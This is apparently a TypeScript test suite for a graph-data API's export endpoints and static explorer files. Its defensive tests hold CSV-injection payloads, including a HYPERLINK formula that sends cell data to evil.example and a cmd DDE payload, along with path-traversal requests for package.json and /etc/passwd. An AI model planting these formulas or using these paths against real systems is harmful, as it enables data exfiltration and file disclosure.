/**
 * The export endpoints and the explorer's static files over HTTP on the curated data: every format parses
 * and holds exactly what the `neighborhood` and `paths` queries return; bad parameters are 400s naming the
 * parameter, unknown ids 404s; only the listed files are served, whatever the path says.
 */
import { readFileSync } from 'node:fs';
import { request as httpRequest } from 'node:http';
import { parse } from 'csv-parse/sync';
import { XMLParser, XMLValidator } from 'fast-xml-parser';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EDGE_ATTRIBUTES, NODE_ATTRIBUTES } from '../src/export/graph-formats.js';
import { removeEntities, validateAgainstDatabase, writeRecords } from '../src/records/write-records.ts';
import { startTestServer, type TestServer } from './helpers.ts';

let server: TestServer;

beforeAll(async () => {
  server = await startTestServer();
});
afterAll(() => server.close());

const get = (path: string) => fetch(`${server.url}${path}`, { redirect: 'manual' });

const graphmlParser = new XMLParser({
  ignoreAttributes: false,
  attributeNamePrefix: '',
  isArray: (name, _path, _leaf, isAttribute) => !isAttribute && ['key', 'node', 'edge', 'data'].includes(name),
  parseTagValue: false,
  htmlEntities: true,
});

/** Node ids, edge ids and declared keys of a GraphML text, after checking it is well-formed. */
function readGraphml(text: string) {
  expect(XMLValidator.validate(text)).toBe(true);
  const { graphml } = graphmlParser.parse(text);
  const keys = new Map<string, { for: string; name: string }>(
    graphml.key.map((key: Record<string, string>) => [key.id, { for: key.for, name: key['attr.name'] }]),
  );
  const nodes: { id: string; data?: { key: string }[] }[] = graphml.graph.node ?? [];
  const edges: { id: string; source: string; target: string; data?: { key: string }[] }[] = graphml.graph.edge ?? [];
  for (const element of [...nodes, ...edges]) {
    for (const item of element.data ?? []) expect(keys.has(item.key), `undeclared key ${item.key}`).toBe(true);
  }
  return { keys, nodes, edges, edgedefault: graphml.graph.edgedefault };
}

const NEIGHBORHOOD = `query ($id: ID!, $depth: Int, $types: [RelationshipType!], $first: Int) {
  neighborhood(id: $id, depth: $depth, types: $types, first: $first) {
    truncated nodes { node { id name __typename } } relationships { id type from to sources { id } }
  } }`;

describe('GET /export/neighborhood.*', () => {
  const id = 'event:amm-2023';
  const params = `id=${encodeURIComponent(id)}&depth=2&first=30&types=ATTENDED,MET,HOLDS_OFFICE`;
  let expected: {
    truncated: boolean;
    nodes: { node: { id: string; name: string; __typename: string } }[];
    relationships: { id: string; type: string; from: string; to: string; sources: { id: string }[] }[];
  };

  beforeAll(async () => {
    expected = (await server.data(NEIGHBORHOOD, { id, depth: 2, first: 30, types: ['ATTENDED', 'MET', 'HOLDS_OFFICE'] })).neighborhood;
    expect(expected.nodes.length).toBeGreaterThan(5);
    expect(expected.relationships.length).toBeGreaterThan(5);
  });

  it('JSON holds the same entities and relationships as the neighborhood query, in its order', async () => {
    const response = await get(`/export/neighborhood.json?${params}`);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('application/json; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="neighborhood-event_amm-2023.json"');
    const document = await response.json();
    expect(document.kind).toBe('neighborhood');
    expect(document.query).toEqual({ id, depth: 2, first: 30, types: ['ATTENDED', 'MET', 'HOLDS_OFFICE'] });
    expect(document.truncated).toBe(expected.truncated);
    expect(document.nodes.map((node: { id: string }) => node.id)).toEqual(expected.nodes.map((item) => item.node.id));
    expect(document.nodes.map((node: { type: string }) => node.type)).toEqual(expected.nodes.map((item) => item.node.__typename));
    expect(document.edges.map((edge: { id: string }) => edge.id)).toEqual(expected.relationships.map((rel) => rel.id));
    expect(document.edges.map((edge: { sources: { id: string }[] }) => edge.sources.map((source) => source.id))).toEqual(
      expected.relationships.map((rel) => rel.sources.map((source) => source.id)),
    );
    expect(document.nodes[0]).toMatchObject({ id, type: 'Event', kind: 'CONGRESS', side: null, confidence: 'HIGH' });
    expect(document.nodes[0].sources[0]).toEqual({
      id: expect.stringMatching(/^source:/),
      title: expect.any(String),
      url: expect.toBeOneOf([null, expect.stringMatching(/^https?:\/\//)]),
    });
  });

  it('nodes.csv and edges.csv have the header and one row per entity and relationship', async () => {
    const nodesResponse = await get(`/export/neighborhood.nodes.csv?${params}`);
    expect(nodesResponse.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    const nodes = parse(await nodesResponse.text()) as string[][];
    expect(nodes[0]).toEqual(NODE_ATTRIBUTES.map((attribute) => attribute.name));
    expect(nodes.slice(1).map((row) => [row[0], row[1], row[2]])).toEqual(expected.nodes.map(({ node }) => [node.id, node.__typename, node.name]));

    const edges = parse(await (await get(`/export/neighborhood.edges.csv?${params}`)).text(), { columns: true }) as Record<string, string>[];
    expect(edges.map((row) => [row.id, row.type, row.from, row.to])).toEqual(expected.relationships.map((rel) => [rel.id, rel.type, rel.from, rel.to]));
    expect(edges.map((row) => row.sources)).toEqual(expected.relationships.map((rel) => rel.sources.map((source) => source.id).join(' ')));
    expect(Object.keys(edges[0]!)).toEqual(EDGE_ATTRIBUTES.map((attribute) => attribute.name));
  });

  it('GraphML is well-formed, declares its keys and has one node and one edge per entity and relationship', async () => {
    const response = await get(`/export/neighborhood.graphml?${params}`);
    expect(response.headers.get('content-type')).toBe('application/graphml+xml; charset=utf-8');
    const graph = readGraphml(await response.text());
    expect(graph.edgedefault).toBe('directed');
    const declared = [...graph.keys.values()].map((key) => `${key.for}:${key.name}`);
    expect(declared).toEqual(expect.arrayContaining(['node:type', 'node:name', 'node:side', 'node:sources', 'edge:type', 'edge:sources']));
    expect(graph.nodes.map((node) => node.id)).toEqual(expected.nodes.map((item) => item.node.id));
    expect(graph.edges.map((edge) => [edge.id, edge.source, edge.target])).toEqual(expected.relationships.map((rel) => [rel.id, rel.from, rel.to]));
  });

  it('defaults to the API defaults (depth 1, first 50, all types)', async () => {
    const defaults = (await server.data(NEIGHBORHOOD, { id })).neighborhood;
    const document = await (await get(`/export/neighborhood.json?id=${id}`)).json();
    expect(document.nodes.map((node: { id: string }) => node.id)).toEqual(defaults.nodes.map((item: { node: { id: string } }) => item.node.id));
    expect(document.edges).toHaveLength(defaults.relationships.length);
  });
});

describe('GET /export/path.*', () => {
  const from = 'actor:maros-sefcovic';
  const to = 'actor:marat-karabayev';
  const PATHS =
    'query ($from: ID!, $to: ID!, $types: [RelationshipType!], $first: Int) { paths(from: $from, to: $to, relationshipTypes: $types, first: $first) { nodes { id } relationships { id } } }';

  it('JSON, CSV and GraphML hold the shortest path', async () => {
    const [path] = (await server.data(PATHS, { from, to, types: ['ATTENDED'], first: 1 })).paths;
    const params = `from=${from}&to=${to}&types=ATTENDED&maxHops=3`;
    const document = await (await get(`/export/path.json?${params}`)).json();
    expect(document.kind).toBe('path');
    expect(document.paths).toEqual([
      { length: 2, nodes: path.nodes.map((node: { id: string }) => node.id), edges: path.relationships.map((rel: { id: string }) => rel.id) },
    ]);
    expect(document.nodes.map((node: { id: string }) => node.id)).toEqual([from, 'event:amm-2023', to]);
    expect(document.edges).toHaveLength(2);

    const nodes = parse(await (await get(`/export/path.nodes.csv?${params}`)).text(), { columns: true }) as Record<string, string>[];
    expect(nodes.map((row) => row.id)).toEqual([from, 'event:amm-2023', to]);
    expect(nodes.map((row) => row.side)).toEqual(['EU', '', 'KZ']);
    const edges = parse(await (await get(`/export/path.edges.csv?${params}`)).text(), { columns: true }) as Record<string, string>[];
    expect(edges.map((row) => row.type)).toEqual(['ATTENDED', 'ATTENDED']);

    const graphResponse = await get(`/export/path.graphml?${params}`);
    expect(graphResponse.headers.get('content-disposition')).toBe('attachment; filename="path-actor_maros-sefcovic--actor_marat-karabayev.graphml"');
    const graph = readGraphml(await graphResponse.text());
    expect(graph.nodes).toHaveLength(3);
    expect(graph.edges).toHaveLength(2);
  });

  it('first=3 merges the three shortest paths and lists each', async () => {
    const { paths } = await server.data(PATHS, { from, to, first: 3 });
    const document = await (await get(`/export/path.json?from=${from}&to=${to}&first=3`)).json();
    expect(document.paths.map((path: { nodes: string[] }) => path.nodes)).toEqual(
      paths.map((path: { nodes: { id: string }[] }) => path.nodes.map((node) => node.id)),
    );
    const nodeIds = new Set(paths.flatMap((path: { nodes: { id: string }[] }) => path.nodes.map((node) => node.id)));
    const edgeIds = new Set(paths.flatMap((path: { relationships: { id: string }[] }) => path.relationships.map((rel) => rel.id)));
    expect(document.nodes).toHaveLength(nodeIds.size);
    expect(document.edges).toHaveLength(edgeIds.size);
  });
});

describe('CSV exports neutralise formulas (OWASP "CSV Injection")', () => {
  const ids = ['actor:test-x-formula', 'actor:test-x-formula-peer'];
  /** Values a spreadsheet would run; stored as they are, past the validator, so that only the writer can defuse them. */
  const FORMULAS = {
    name: '=HYPERLINK("https://evil.example/?"&A1,"open")',
    description: "\t=cmd|' /C calc'!A0",
    note: '+SUM(1,2)',
    role: '@SUM(A1)',
    title: '-2+3',
    peer: '\r=1+1',
  };

  beforeAll(async () => {
    await removeEntities(server.db, ids);
    const located = (record: Record<string, unknown>, line: number) => ({ location: { file: 'test', line }, record });
    const sourceIds = ['source:eu-kz-roadmap-2023-de'];
    const valid = await validateAgainstDatabase(
      server.db,
      [
        located({ type: 'Actor', id: ids[0], name: 'Formula', kind: 'company', side: 'KZ', confidence: 'low', sourceIds }, 1),
        located({ type: 'Actor', id: ids[1], name: 'Peer', kind: 'company', side: 'EU', confidence: 'low', sourceIds }, 2),
      ],
      [located({ type: 'MET', from: ids[0], to: ids[1], date: '2023-06', note: 'x', confidence: 'low', sourceIds }, 3)],
    );
    const [actor, peer] = valid.entities;
    Object.assign(actor!.properties, { name: FORMULAS.name, description: FORMULAS.description });
    Object.assign(peer!.properties, { name: FORMULAS.peer });
    Object.assign(valid.relationships[0]!.properties, { note: FORMULAS.note, role: FORMULAS.role, title: FORMULAS.title });
    await server.db.writeTransaction((tx) => writeRecords(tx, valid.entities, valid.relationships, { by: 'test' }));
  });
  afterAll(() => removeEntities(server.db, ids));

  it('every stored formula is written with a leading single quote in nodes.csv and edges.csv, and no cell starts with one', async () => {
    const stored = (await server.data('{ node(id: "actor:test-x-formula") { ... on Entity { name description } } }')).node;
    expect(stored).toEqual({ name: FORMULAS.name, description: FORMULAS.description });

    const nodesText = await (await get(`/export/neighborhood.nodes.csv?id=${ids[0]}`)).text();
    const nodes = parse(nodesText, { columns: true }) as Record<string, string>[];
    expect(nodes.map((row) => [row.id, row.name])).toEqual([
      [ids[0], `'${FORMULAS.name}`],
      [ids[1], `'${FORMULAS.peer}`],
    ]);
    expect(nodes[0]!.description).toBe(`'${FORMULAS.description}`);
    const edges = parse(await (await get(`/export/neighborhood.edges.csv?id=${ids[0]}`)).text(), { columns: true }) as Record<string, string>[];
    expect(edges.map((row) => [row.note, row.role, row.title])).toEqual([[`'${FORMULAS.note}`, `'${FORMULAS.role}`, `'${FORMULAS.title}`]]);
    for (const row of [...nodes, ...edges]) {
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    const json = await (await get(`/export/neighborhood.json?id=${ids[0]}`)).json();
    expect(json.nodes[0].name).toBe(FORMULAS.name);
  });
});

describe('export errors', () => {
  it.each([
    ['/export/neighborhood.json', 400, 'BAD_USER_INPUT', 'id', 'Parameter "id" is required, e.g. ?id=actor:maros-sefcovic.'],
    ['/export/neighborhood.json?id=event:amm-2023&depth=two', 400, 'BAD_USER_INPUT', 'depth', 'Parameter "depth" must be an integer, but got "two".'],
    ['/export/neighborhood.json?id=event:amm-2023&depth=9', 400, 'BAD_USER_INPUT', 'depth', 'Argument "depth" must be between 1 and 3, but got 9.'],
    ['/export/neighborhood.graphml?id=event:amm-2023&first=500', 400, 'BAD_USER_INPUT', 'first', 'Argument "first" must be between 1 and 200, but got 500.'],
    [
      '/export/neighborhood.json?id=event:amm-2023&dept=2',
      400,
      'BAD_USER_INPUT',
      'dept',
      'Unknown parameter "dept"; /export/neighborhood takes "id", "depth", "types", "first", "asOf", "includeUncertain".',
    ],
    ['/export/neighborhood.json?id=event:amm-2023&id=place:astana', 400, 'BAD_USER_INPUT', 'id', 'Parameter "id" must be given once, but was given 2 times.'],
    ['/export/neighborhood.json?id=%20', 400, 'BAD_USER_INPUT', 'id', 'Parameter "id" must be an entity id, e.g. actor:maros-sefcovic, but is empty.'],
    ['/export/path.nodes.csv?from=actor:maros-sefcovic', 400, 'BAD_USER_INPUT', 'to', 'Parameter "to" is required, e.g. ?to=actor:maros-sefcovic.'],
    [
      '/export/path.json?from=actor:maros-sefcovic&to=actor:marat-karabayev&maxHops=12',
      400,
      'BAD_USER_INPUT',
      'maxHops',
      'Argument "maxHops" must be between 1 and 6, but got 12.',
    ],
    [
      '/export/path.json?from=actor:maros-sefcovic&to=actor:maros-sefcovic',
      400,
      'BAD_USER_INPUT',
      'to',
      'Arguments "from" and "to" must name two different entities.',
    ],
  ])('%s is %i %s naming "%s"', async (path, status, code, parameter, message) => {
    const response = await get(path);
    expect(response.status).toBe(status);
    expect(await response.json()).toEqual({ error: { code, message, parameter } });
  });

  it('names the unknown relationship types', async () => {
    const response = await get('/export/neighborhood.json?id=event:amm-2023&types=MET,FOO');
    expect(response.status).toBe(400);
    const { error } = await response.json();
    expect(error).toMatchObject({ code: 'BAD_USER_INPUT', parameter: 'types' });
    expect(error.message).toMatch(
      /^Parameter "types" must list relationship types separated by commas, e\.g\. MET,ATTENDED, but got unknown "FOO"\. Known types: HOLDS_OFFICE, /,
    );
  });

  it.each([
    ['/export/neighborhood.json?id=actor:nobody', 'No entity has the id "actor:nobody" (argument "id").'],
    ['/export/path.graphml?from=actor:nobody&to=actor:marat-karabayev', 'No entity has the id "actor:nobody" (argument "from").'],
    [
      '/export/path.json?from=actor:maros-sefcovic&to=actor:marat-karabayev&types=NEXT',
      'No path links "actor:maros-sefcovic" and "actor:marat-karabayev" within 4 hops; a larger "maxHops" (at most 6) or other "types" may find one.',
    ],
    [
      '/export/neighborhood.xml?id=event:amm-2023',
      'No export "/export/neighborhood.xml"; use /export/neighborhood.<format>?id=… or /export/path.<format>?from=…&to=…, where <format> is graphml, json, nodes.csv or edges.csv.',
    ],
  ])('%s is 404 NOT_FOUND', async (path, message) => {
    const response = await get(path);
    expect(response.status).toBe(404);
    expect(await response.json()).toEqual({ error: { code: 'NOT_FOUND', message } });
  });

  it("passes the caller's Authorization on, so closed reads stay closed for exports too", async () => {
    const key = 'export-test-viewer-key-0123456789';
    const closed = await startTestServer({ auth: { readsRequireAuth: true, apiKeys: [{ name: 'viewer', role: 'viewer', key }] } });
    try {
      const path = `${closed.url}/export/neighborhood.json?id=event:amm-2023`;
      const anonymous = await fetch(path);
      expect(anonymous.status).toBe(401);
      expect((await anonymous.json()).error.code).toBe('UNAUTHENTICATED');
      const signedIn = await fetch(path, { headers: { authorization: `Bearer ${key}` } });
      expect(signedIn.status).toBe(200);
      expect((await signedIn.json()).nodes[0].id).toBe('event:amm-2023');
    } finally {
      await closed.close();
    }
  });

  it('answers GET only', async () => {
    const response = await fetch(`${server.url}/export/neighborhood.json?id=event:amm-2023`, { method: 'POST' });
    expect(response.status).toBe(405);
    expect(response.headers.get('allow')).toBe('GET, HEAD');
  });
});

/** A GET with the path sent exactly as written (fetch would resolve dot segments first). */
function rawGet(path: string): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const request = httpRequest(`${server.url}/`, { path, method: 'GET' }, (response) => {
      let body = '';
      response.setEncoding('utf8');
      response.on('data', (chunk) => (body += chunk));
      response.on('end', () => resolve({ status: response.statusCode ?? 0, body }));
    });
    request.on('error', reject);
    request.end();
  });
}

describe('the explorer files', () => {
  it('/explore redirects to /explore/, which serves the page with its content security policy', async () => {
    const redirect = await get('/explore?x=1');
    expect(redirect.status).toBe(308);
    expect(redirect.headers.get('location')).toBe('/explore/?x=1');
    const page = await get('/explore/');
    expect(page.status).toBe(200);
    expect(page.headers.get('content-type')).toBe('text/html; charset=utf-8');
    expect(page.headers.get('content-security-policy')).toContain("default-src 'self'");
    expect(await page.text()).toContain('<script type="module" src="explorer.js"></script>');
  });

  it.each([
    ['/explore/explorer.js', 'text/javascript; charset=utf-8', "import cytoscape from './vendor/cytoscape.esm.min.mjs';"],
    ['/explore/graph-formats.js', 'text/javascript; charset=utf-8', 'export function writeGraphml(document) {'],
    ['/explore/explorer.css', 'text/css; charset=utf-8', ':root {'],
    ['/explore/vendor/cytoscape.esm.min.mjs', 'text/javascript; charset=utf-8', 'export{'],
    ['/explore/vendor/layout-base.js', 'text/javascript; charset=utf-8', 'root["layoutBase"] = factory();'],
    ['/explore/vendor/cose-base.js', 'text/javascript; charset=utf-8', 'root["coseBase"] = factory(root["layoutBase"]);'],
    ['/explore/vendor/cytoscape-fcose.js', 'text/javascript; charset=utf-8', 'root["cytoscapeFcose"] = factory(root["coseBase"]);'],
  ])('%s is served as %s', async (path, contentType, content) => {
    const response = await get(path);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe(contentType);
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    expect(await response.text()).toContain(content);
  });

  it('/explore/graph-formats.js is the very module the server exports with (one copy of the formats)', async () => {
    const served = await (await get('/explore/graph-formats.js')).text();
    expect(served).toBe(readFileSync(new URL('../src/export/graph-formats.js', import.meta.url), 'utf8'));
    expect(served).not.toMatch(/^import /m);
  });

  it.each([
    '/explore/../package.json',
    '/explore/%2e%2e/package.json',
    '/explore/..%2fpackage.json',
    '/explore/vendor/..%2f..%2f..%2fpackage.json',
    '/explore/explorer.js/../../package.json',
    '/explore/vendor/cytoscape.min.js',
    '/explore//etc/passwd',
    '/explore/%2fetc%2fpasswd',
  ])('%s is not served', async (path) => {
    const response = await rawGet(path);
    expect(response.status).toBe(404);
    expect(response.body).not.toContain('value-chain-graph');
    expect(response.body).not.toContain('root:');
  });
});
